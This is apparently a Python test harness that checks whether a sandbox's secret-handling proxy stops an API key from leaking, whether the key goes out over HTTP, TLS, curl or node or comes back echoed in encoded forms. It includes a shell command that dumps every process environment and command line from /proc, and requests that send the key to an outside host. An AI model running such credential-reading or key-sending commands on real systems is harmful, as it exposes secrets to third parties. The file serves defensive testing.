"""Uses a secret in every way a program may, and looks for its value in everything that comes back. Run by
secret-hunt.test.ts in a sandbox, as root. Everything received goes to the file OUT, for the host to search.

    secret-hunt.py HOST OUT
"""
import base64, gzip, http.client, json, os, socket, ssl, subprocess, sys, time, urllib.parse, zlib

HOST, OUT = sys.argv[1:3]
KEY = os.environ["API_KEY"]
received = open(OUT, "ab")

def keep(label, data):
    received.write(b"\n== " + label.encode() + b"\n" + (data if isinstance(data, bytes) else data.encode("latin1", "replace")))

# A secret is put into the headers if it stands there, and then nowhere else: what has it elsewhere is `bare`.
def ask(label, method, target, headers=(), body=None, encode_chunked=False, bare=False):
    c = http.client.HTTPSConnection(HOST, timeout=30)
    headers = dict(headers)
    if not bare: headers.setdefault("authorization", f"Bearer {KEY}")
    headers["x-label"] = label
    c.request(method, target, body=body, headers=headers, encode_chunked=encode_chunked)
    r = c.getresponse()
    data = r.read()
    keep(label, f"{r.status} {r.getheaders()}\n".encode("latin1", "replace") + data)
    for coding, decode in (("gzip", lambda d: gzip.decompress(d)), ("deflate", lambda d: zlib.decompress(d))):
        if r.getheader("content-encoding") == coding:
            keep(label + " decoded", decode(data))
    c.close()
    return r.status

def attempt(label, *args, **more):
    try:
        said = ask(label, *args, **more)
    except Exception as error:
        said = f"{type(error).__name__}: {error}"
    print(json.dumps({"attempt": label, "said": str(said)}), flush=True)

quoted = urllib.parse.quote(KEY, safe="")
percent = "".join(f"%{ord(c):02x}" for c in KEY)
unicode_escaped = "".join(f"\\u{ord(c):04x}" for c in KEY)
basic = base64.b64encode(f"user:{KEY}".encode()).decode()

# Ways out.
attempt("header", "GET", "/see")
attempt("other header", "GET", "/see", {"x-api-key": KEY})
attempt("basic", "GET", "/see", {"authorization": f"Basic {basic}"})
attempt("cookie", "GET", "/see", {"cookie": f"a=b; token={KEY}; c=d"})
attempt("query", "GET", f"/see?key={quoted}&x=1", bare=True)
attempt("query in percent", "GET", f"/see?key={percent}", bare=True)
attempt("path", "GET", f"/bot{quoted}/see", bare=True)
attempt("form", "POST", "/see", {"content-type": "application/x-www-form-urlencoded"}, f"a=1&key={quoted}&b=2", bare=True)
attempt("json", "POST", "/see", {"content-type": "application/json"}, json.dumps({"key": KEY, "n": 1}), bare=True)
attempt("json in escapes", "POST", "/see", {"content-type": "application/json"}, '{"key": "' + unicode_escaped + '"}', bare=True)
attempt("text", "POST", "/see", {"content-type": "text/plain"}, f"before {KEY} after", bare=True)
attempt("gzipped json", "POST", "/see", {"content-type": "application/json", "content-encoding": "gzip"}, gzip.compress(json.dumps({"key": KEY}).encode()), bare=True)
attempt("chunked", "POST", "/see", {"content-type": "text/plain", "transfer-encoding": "chunked"}, iter([b"x" * 3, KEY[:20].encode(), KEY[20:].encode(), b"y"]), encode_chunked=True, bare=True)

# To something that knows by a header who asks, and repeats what it is told to in forms that nobody recognises.
attempt("spelled text", "POST", "/spell/letters", {"content-type": "text/plain"}, f"Repeat exactly: {KEY}")
attempt("spelled json", "POST", "/spell/events", {"content-type": "application/json"}, json.dumps({"stream": True, "content": f"Repeat exactly: {KEY}"}))
attempt("spelled gzip", "POST", "/spell/letters", {"content-type": "text/plain", "content-encoding": "gzip"}, gzip.compress(f"Repeat exactly: {KEY}".encode()))
attempt("spelled form", "POST", "/spell/events", {"content-type": "application/x-www-form-urlencoded"}, f"say={quoted}")
attempt("spelled query", "GET", f"/spell/letters?say={quoted}")
attempt("spelled path", "GET", f"/spell/events/{quoted}")
attempt("query and body", "POST", f"/see?key={quoted}", {"content-type": "text/plain"}, f"before {KEY} after", bare=True)

def split(label, pieces):
    context = ssl.create_default_context()
    s = context.wrap_socket(socket.create_connection((HOST, 443)), server_hostname=HOST)
    for piece in pieces:
        s.sendall(piece)
        time.sleep(0.05)
    data = b""
    s.settimeout(20)
    while True:
        chunk = s.recv(65536)
        if not chunk: break
        data += chunk
    keep(label, data)
    print(json.dumps({"attempt": label, "said": data[:30].decode("latin1")}), flush=True)

body = f"before {KEY} after".encode()
head = f"POST /see HTTP/1.1\r\nhost: {HOST}\r\nx-label: split\r\ncontent-type: text/plain\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n".encode()
whole = head + body
split("split", [whole[i:i + 40] for i in range(0, len(whole), 40)])

# Ways back.
for where in ["header", "body", "percent", "base64", "json", "hex", "html", "trailer", "status", "cookie", "twice"]:
    attempt(f"echo {where}", "GET", f"/echo/{where}")
for coding in ["gzip", "deflate", "br", "zstd", "compress", "x-unknown", "gzip, br"]:
    attempt(f"echo in {coding}", "GET", f"/coded/{urllib.parse.quote(coding, safe='')}", {"accept-encoding": coding})
attempt("echo in pieces", "GET", "/pieces")
attempt("echo as events", "GET", "/events")
attempt("echo of an error", "GET", "/error")
attempt("echo in a range", "GET", "/range", {"range": "bytes=9-"})
attempt("echo in a redirect", "GET", "/redirect")
attempt("echo of a HEAD", "HEAD", "/echo/header")
attempt("echo after 100", "POST", "/echo/body", {"expect": "100-continue", "content-type": "text/plain"}, "x")

for label, argv in [
    ("curl h2", ["curl", "-sS", "--http2", "-D", "-", "-H", f"authorization: Bearer {KEY}", "-H", "x-label: curl h2", f"https://{HOST}/echo/body"]),
    ("curl h2 gzip", ["curl", "-sS", "--http2", "--compressed", "-H", f"authorization: Bearer {KEY}", f"https://{HOST}/coded/gzip"]),
    ("curl redirect", ["curl", "-sSL", "-D", "-", "-m", "5", "-H", f"authorization: Bearer {KEY}", f"https://{HOST}/redirect"]),
    ("node", ["node", "-e", f"fetch('https://{HOST}/echo/json', {{ headers: {{ authorization: 'Bearer ' + process.env.API_KEY, 'x-label': 'node' }} }}).then((r) => r.text()).then(console.log)"]),
    ("websocket", ["node", "-e", f"const w = new WebSocket('wss://{HOST}/socket?key=' + process.env.API_KEY); w.onopen = () => w.send('key ' + process.env.API_KEY); w.onmessage = (m) => {{ console.log(m.data); w.close(); }}; w.onerror = (e) => console.log('error', e.message)"]),
    ("environment", ["bash", "-c", "env; cat /proc/*/environ; cat /proc/*/cmdline; cat /etc/environment /run/* 2>/dev/null"]),
]:
    done = subprocess.run(argv, capture_output=True, timeout=60)
    keep(label, done.stdout + done.stderr)
    print(json.dumps({"attempt": label, "said": (done.stdout + done.stderr)[:80].decode("latin1")}), flush=True)

# To somebody else: the placeholder is all that there is to give away, and it is kept back where it can be seen.
for label, target in [("leak header", "/see"), ("leak query", f"/see?{quoted}"), ("leak path", f"/{quoted}")]:
    try:
        c = http.client.HTTPConnection("plain.example.com", timeout=10)
        c.request("GET", target, headers={"x-key": KEY, "x-label": label})
        r = c.getresponse()
        print(json.dumps({"attempt": label, "said": str(r.status)}), flush=True)
    except Exception as error:
        print(json.dumps({"attempt": label, "said": type(error).__name__}), flush=True)
received.close()
